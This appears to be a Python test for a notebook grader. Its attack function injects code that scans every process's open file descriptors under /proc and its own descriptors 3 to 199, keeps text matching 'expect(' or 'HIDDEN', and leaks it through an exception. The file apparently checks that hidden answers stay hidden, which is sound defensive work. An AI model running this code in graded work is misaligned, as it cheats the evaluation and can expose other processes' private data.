from __future__ import annotations

from nbformat import NotebookNode

from tests.graders.attacks.tools import first

WHY = "Every open descriptor is read, also rewound, and those of other processes are opened."
FLAG = None

CODE = r"""
import fcntl, glob, os
found = []
for name in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        fd = os.open(name, os.O_RDONLY | os.O_NONBLOCK)
        found.append(os.pread(fd, 1 << 20, 0).decode(errors="replace"))
    except OSError:
        pass
for fd in range(3, 200):
    try:
        os.set_blocking(fd, False)
        found.append(os.read(fd, 1 << 16).decode(errors="replace"))
    except OSError:
        pass
    try:
        os.set_blocking(fd, True)
    except OSError:
        pass
found = [f for f in found if "expect(" in f or "HIDDEN" in f]
if found:
    raise RuntimeError(" | ".join(found)[:500])
"""


def attack(notebook: NotebookNode) -> None:
    first(notebook, CODE)
